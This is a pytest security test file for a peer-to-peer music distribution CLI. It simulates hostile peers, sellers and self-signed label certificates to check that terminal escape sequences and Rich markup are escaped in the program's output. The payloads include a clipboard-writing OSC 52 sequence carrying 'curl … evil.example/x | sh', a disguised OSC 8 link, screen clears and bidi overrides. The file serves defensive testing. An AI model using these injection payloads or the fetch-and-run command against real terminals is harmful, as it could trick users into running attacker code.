"""Issue 20, findings 6 and 7: text from outside never reaches the terminal raw, and a
signed name is never read as markup.

The attackers are written here as a modified client would act:

- a swarm peer: a raw libtorrent session whose BEP 10 client string
  (``handshake_client_version``) carries a window title (OSC 0), a clipboard write of
  ``curl … | sh`` (OSC 52), a screen clear (CSI 2J), a disguised link (OSC 8), a C1 CSI
  and a right-to-left override; the victims run the real ``fetch`` and ``status``;
- a malicious seller: our own NodeApi holding a seller's key the license names, which
  answers ``POST /purchase`` with escape-laden error text, and a raw socket posing as a
  seller whose HTTP status line is an escape sequence; the victim runs ``buy``;
- a self-made label: a certificate signed with our own classes by a key nobody trusts,
  whose names are rich markup, in a work whose title holds ``[/]``; the victim runs
  ``license show`` and ``license verify``.

Each asserts that no ESC, BEL, C1 control, bidi or zero-width character reaches stdout or
stderr, that what the attacker sent is still there to read (escaped), and that the
command ends as its contract says, without a traceback.
"""

from __future__ import annotations

import base64
import json
import re
import socket
import threading
import time
import unicodedata
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import nacl.signing
import pytest

from p2pdist._api import NodeApi
from p2pdist.identity import Identity, load_public_identity
from p2pdist.licensing._certificate import ArtistCertificate, SignedCertificate
from tests.conftest import free_port, run_cli
from tests.integration._story import Seeder, make_album, publish

MiB = 1024 * 1024
CURL = "curl -fsSL https://evil.example/x | sh"
# A window title, a clipboard write, a screen clear and home, a disguised link, a C1 CSI
# (U+009B) turning text red, and a right-to-left override: what the review's peer sent.
HOSTILE = (
    "\x1b]0;p2pdist: all good\x07"
    f"\x1b]52;c;{base64.b64encode(CURL.encode()).decode()}\x07"
    "\x1b[2J\x1b[H"
    "\x1b]8;;https://evil.example/\x1b\\https://p2pdist.org\x1b]8;;\x1b\\"
    "\x9b31m red \u202egnp.exe\u200b"
)
CLIENT = "evil/6.6 " + HOSTILE


def hidden_characters(text: str) -> list[str]:
    """Every control or format character in *text*, but the line breaks of the layout."""
    return [f"U+{ord(c):04X}" for c in text
            if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")]


def assert_terminal_safe(cp: Any, *, what: str) -> None:
    for stream, text in (("stdout", cp.stdout), ("stderr", cp.stderr)):
        assert not hidden_characters(text), (
            f"{what}: {stream} carries {hidden_characters(text)[:8]}: {text!r:.600}")
    assert "Traceback" not in cp.stderr, cp.stderr


def only_colours(text: str) -> bool:
    """On a (forced) terminal our own output may hold SGR colour sequences, nothing else."""
    return not hidden_characters(re.sub(r"\x1b\[[0-9;]*m", "", text))


# -- a swarm peer's client string ------------------------------------------------------------


@contextmanager
def hostile_peer(port: int, client: str) -> Iterator[Any]:
    """A plain libtorrent session on 127.0.0.1:*port* that names itself *client*."""
    import libtorrent as lt

    ses = lt.session({
        "listen_interfaces": f"127.0.0.1:{port}",
        "outgoing_interfaces": "127.0.0.1",
        "handshake_client_version": client,
        "enable_dht": False, "enable_lsd": False, "enable_upnp": False,
        "enable_natpmp": False, "enable_outgoing_utp": False, "enable_incoming_utp": False,
        "allow_multiple_connections_per_ip": True, "alert_mask": 0,
    })
    try:
        yield ses
    finally:
        del ses


def _add(ses: Any, torrent: str, save: Path, *, limit: int = 0) -> Any:
    import libtorrent as lt

    p = lt.add_torrent_params()
    p.ti = lt.torrent_info(torrent)
    p.save_path = str(save)
    h = ses.add_torrent(p)
    if limit:
        h.set_download_limit(limit)
    return h


@pytest.fixture(scope="module")
def work(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    root = tmp_path_factory.mktemp("injection")
    album = make_album(root / "studio" / "First Light", [2 * MiB + 5, 300_001])
    pub = publish(root / "ada", album)
    return {**pub, "root": root, "album": album, "artist": root / "ada"}


def test_peer_client_string_cannot_write_to_the_terminal_of_fetch(work: dict[str, Any],
                                                                  tmp_path: Path) -> None:
    port = free_port()
    with hostile_peer(port, CLIENT) as ses:
        h = _add(ses, work["torrent"], work["album"].parent)  # seeds the real files
        # Slow enough that the fan reads the peer's handshake while it is connected.
        h.set_upload_limit(1024 * 1024)
        deadline = time.monotonic() + 60
        while not h.status().is_seeding and time.monotonic() < deadline:
            time.sleep(0.1)
        assert h.status().is_seeding
        peer = ["--local", "--peer", f"127.0.0.1:{port}", "--stall-timeout", "60"]
        fan1, fan2 = tmp_path / "fan1", tmp_path / "fan2"
        for fan in (fan1, fan2):
            run_cli(fan, "init", "--name", "Fan")
        as_json = run_cli(fan1, "fetch", work["torrent"], "--dest", str(tmp_path / "a"),
                          *peer, "--json")
        human = run_cli(fan2, "fetch", work["torrent"], "--dest", str(tmp_path / "b"), *peer)
    # The attack arrived whole: JSON carries the peer's exact words, as JSON escapes.
    [sender] = [p for p in json.loads(as_json.stdout)["peers"] if p["bytes"]]
    assert sender["client"] == CLIENT and sender["pk"] is None
    assert_terminal_safe(as_json, what="fetch --json")
    assert_terminal_safe(human, what="fetch")
    # The human summary still names the peer's client, escaped where it was hostile.
    assert "evil/6.6 \\x1b]0;p2pdist: all good\\x07" in human.stdout
    assert f"from 127.0.0.1:{port} (evil/6.6" in human.stdout


def test_peer_client_string_cannot_write_to_the_terminal_of_status(work: dict[str, Any],
                                                                   tmp_path: Path) -> None:
    port, mine = free_port(), free_port()
    with Seeder(work["artist"], port), hostile_peer(mine, CLIENT) as ses:
        # A slow download keeps the hostile peer connected while status is asked.
        h = _add(ses, work["torrent"], tmp_path / "mallory", limit=64 * 1024)
        h.connect_peer(("127.0.0.1", port))
        deadline, doc = time.monotonic() + 60, {}
        while time.monotonic() < deadline:
            cp = run_cli(work["artist"], "status", "--json")
            doc = json.loads(cp.stdout)
            if any(p["client"] == CLIENT for w in doc["works"] for p in w["peers"]):
                break
            time.sleep(0.3)
        else:
            raise AssertionError(f"the hostile peer never showed in status: {doc}")
        assert_terminal_safe(cp, what="status --json")
        human = run_cli(work["artist"], "status")
        coloured = run_cli(work["artist"], "status",
                           env={"FORCE_COLOR": "1", "TERM": "xterm-256color"})
    assert_terminal_safe(human, what="status")
    assert "evil/6.6 \\x1b]0;" in human.stdout  # the peer is listed, its words escaped
    # On a terminal, the only escape sequences are our own colours.
    assert "\x1b[" in coloured.stdout, "FORCE_COLOR no longer forces rich's colours"
    assert only_colours(coloured.stdout) and only_colours(coloured.stderr), coloured.stdout
    assert "\x1b]" not in coloured.stdout + coloured.stderr


# -- a malicious seller's words --------------------------------------------------------------


def _paid_work(root: Path, seller: bytes) -> tuple[Path, dict[str, Any]]:
    from p2pdist.identity import key_to_text

    album = make_album(root / "studio" / "Night Songs", [300_000])
    artist = root / "ada"
    run_cli(artist, "init", "--name", "Ada")
    pub = json.loads(run_cli(
        artist, "publish", str(album), "--title", "Night Songs", "--price", "5.00",
        "--currency", "EUR", "--seller", load_public_identity(artist).key_text,
        "--seller", key_to_text(seller), "--out", str(root / "night.torrent"),
        "--json").stdout)
    return artist, pub


def test_seller_error_text_cannot_write_to_the_terminal_of_buy(tmp_path: Path) -> None:
    # Mallory is a seller the license names (a shop that went bad). Its node proves its
    # key as any node does, then refuses every purchase with words meant for a terminal.
    mallory = Identity("Mallory", nacl.signing.SigningKey.generate())
    artist, pub = _paid_work(tmp_path, mallory.public_key)
    fan = tmp_path / "fan"
    run_cli(fan, "init", "--name", "Fan")
    port = free_port()
    with Seeder(artist, port):
        run_cli(fan, "fetch", pub["torrent"], "--dest", str(tmp_path / "music"), "--local",
                "--peer", f"127.0.0.1:{port}", "--json", "--stall-timeout", "60")
    api = NodeApi(mallory)
    api.route("POST", "/purchase", lambda query, body: (
        402, {"ok": False, "reason": "redeemed\x1b[2J", "error": HOSTILE * 3}))
    with api:
        args = ["buy", pub["work"], "--voucher", "ABCD-EFGH-JKLM-NPQR-S", "--seller",
                f"127.0.0.1:{api.port}"]
        human = run_cli(fan, *args, check=False)
        as_json = run_cli(fan, *args, "--json", check=False)
    for cp in (human, as_json):
        assert cp.returncode == 1, cp.stderr
        assert_terminal_safe(cp, what="buy")
        # The seller's words are still there to read, as escapes.
        assert "refused: \\x1b]0;p2pdist: all good\\x07" in cp.stderr
    doc = json.loads(as_json.stdout)
    assert doc["ok"] is False and doc["error"].endswith(HOSTILE * 3)  # JSON keeps it exact
    assert not (fan / "library" / f"{pub['work']}.grant").exists()


@contextmanager
def raw_seller(status_line: bytes) -> Iterator[int]:
    """A socket on 127.0.0.1 that answers any request with *status_line*."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    srv.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    conn.recv(65536)
                    conn.sendall(status_line + b"\r\nContent-Length: 0\r\n\r\n")
                except OSError:
                    pass

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    try:
        yield int(srv.getsockname()[1])
    finally:
        stop.set()
        t.join(5)
        srv.close()


def test_seller_status_line_cannot_write_to_the_terminal_of_buy(tmp_path: Path) -> None:
    # Before any key is proven, a "seller" answers GET /identity with a status line that
    # is an escape sequence: http.client quotes it in its error, and the error is shown.
    mallory = Identity("Mallory", nacl.signing.SigningKey.generate())
    artist, pub = _paid_work(tmp_path, mallory.public_key)
    fan = tmp_path / "fan"
    run_cli(fan, "init", "--name", "Fan")
    port = free_port()
    with Seeder(artist, port):
        run_cli(fan, "fetch", pub["torrent"], "--dest", str(tmp_path / "music"), "--local",
                "--peer", f"127.0.0.1:{port}", "--json", "--stall-timeout", "60")
    with raw_seller(HOSTILE.encode("utf-8")) as api:
        cp = run_cli(fan, "buy", pub["work"], "--voucher", "ABCD-EFGH-JKLM-NPQR-S",
                     "--seller", f"127.0.0.1:{api}", check=False)
    assert cp.returncode != 0
    assert_terminal_safe(cp, what="buy")
    assert "\\x1b]52;c;" in cp.stderr  # what it sent is there to read, as escapes


# -- a self-made label's markup ----------------------------------------------------------------

MARKUP_NAME = "[bold green]trusted label[/]"
MARKUP_LABEL = "[bold green]Big Label[/][black on black]"
MARKUP_TITLE = "Songs [/] for [link=https://evil.example]you[/link]"


@pytest.fixture(scope="module")
def certified(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A work whose holder embeds a certificate from a key nobody trusts, its names in
    markup, and whose title and creator hold markup too."""
    root = tmp_path_factory.mktemp("markup")
    ada = root / "ada"
    run_cli(ada, "init", "--name", "Ada")
    mallory = Identity(MARKUP_LABEL, nacl.signing.SigningKey.generate())
    cert = ArtistCertificate(artist=load_public_identity(ada).public_key, name=MARKUP_NAME,
                             label=mallory.public_key, label_name=MARKUP_LABEL,
                             issued=datetime.now(UTC).replace(microsecond=0), expires=None)
    (root / "cert.p2pc").write_bytes(SignedCertificate.sign(cert, mallory).to_bytes())
    album = make_album(root / "studio" / "Songs", [100_000])
    # Two works: a title with "[/]" crashed the old renderer before any certificate
    # line, so the certificate's markup is shown in a work with a plain title.
    cert_torrent, title_torrent = root / "songs.torrent", root / "title.torrent"
    run_cli(ada, "publish", str(album), "--title", "Night Songs", "--license", "CC-BY-4.0",
            "--creator", "[blink]Ada[/]", "--certificate", str(root / "cert.p2pc"),
            "--out", str(cert_torrent), "--json")
    run_cli(ada, "publish", str(album), "--title", MARKUP_TITLE, "--license", "CC-BY-4.0",
            "--certificate", str(root / "cert.p2pc"), "--out", str(title_torrent), "--json")
    return {"root": root, "torrent": str(cert_torrent), "titled": str(title_torrent),
            "label": mallory, "artist": ada, "album": album}


def test_self_made_certificate_name_in_markup_shows_as_a_claim(certified: dict[str, Any],
                                                               tmp_path: Path) -> None:
    fan = tmp_path / "fan"
    run_cli(fan, "init", "--name", "Fan")
    shown = run_cli(fan, "license", "show", certified["torrent"], check=False)
    assert shown.returncode == 0, shown.stderr  # it verifies: trust is a verdict, not a failure
    assert_terminal_safe(shown, what="license show")
    # The markup is literal text, inside a sentence that says whose claim it is.
    [line] = [ln for ln in shown.stdout.splitlines() if MARKUP_NAME in ln]
    assert f'claims to be "{MARKUP_LABEL}"' in line
    assert f'claims to be "{MARKUP_NAME}"' in line
    assert "label not in your trust store" in line
    assert "[blink]Ada[/]" in shown.stdout
    # On a terminal, nothing in that line is green: the verdict is the real one.
    coloured = run_cli(fan, "license", "show", certified["torrent"],
                       env={"FORCE_COLOR": "1", "TERM": "xterm-256color"})
    assert only_colours(coloured.stdout)
    [line] = [ln for ln in coloured.stdout.splitlines() if "trusted label" in ln]
    assert "32m" not in line and "claims to be" in line
    # Scripts read the same claim, unchanged, in JSON.
    doc = json.loads(run_cli(fan, "license", "show", certified["torrent"], "--json").stdout)
    assert doc["creators"] == ["[blink]Ada[/]"] and not doc["trust"]["trusted"]
    [c] = doc["trust"]["certificates"]
    assert (c["name"], c["label_name"], c["label_trusted"]) == (MARKUP_NAME, MARKUP_LABEL,
                                                                False)


def test_title_with_markup_close_tag_does_not_crash_license_commands(
        certified: dict[str, Any], tmp_path: Path) -> None:
    fan = tmp_path / "fan"
    run_cli(fan, "init", "--name", "Fan")
    for cmd in ("show", "verify"):
        cp = run_cli(fan, "license", cmd, certified["titled"], check=False)
        assert cp.returncode == 0, cp.stderr
        assert MARKUP_TITLE in cp.stdout
        assert_terminal_safe(cp, what=f"license {cmd}")
    # The artist's own commands print the title too.
    cp = run_cli(certified["artist"], "publish", str(certified["album"]), "--title",
                 MARKUP_TITLE, "--license", "CC0-1.0", "--out", str(tmp_path / "t.torrent"),
                 check=False)
    assert cp.returncode == 0 and MARKUP_TITLE in cp.stdout, cp.stderr
    cp = run_cli(certified["artist"], "works", check=False)
    assert cp.returncode == 0 and MARKUP_TITLE[:20] in cp.stdout, cp.stderr


def test_label_the_fan_trusts_goes_by_the_fans_name_not_its_own_claim(
        certified: dict[str, Any], tmp_path: Path) -> None:
    from p2pdist.identity import key_to_text

    fan = tmp_path / "fan"
    run_cli(fan, "init", "--name", "Fan")
    run_cli(fan, "trust", "add", key_to_text(certified["label"].public_key), "--name",
            "Label X")
    out = run_cli(fan, "license", "show", certified["torrent"]).stdout
    [line] = [ln for ln in out.splitlines() if MARKUP_NAME in ln]
    # Vouched for: a plain statement, under the fan's own name for the label.
    assert line.strip().startswith("certified by Label X (")
    assert f'as "{MARKUP_NAME}": trusted label' in line
    assert "claims to be" not in line and MARKUP_LABEL not in out
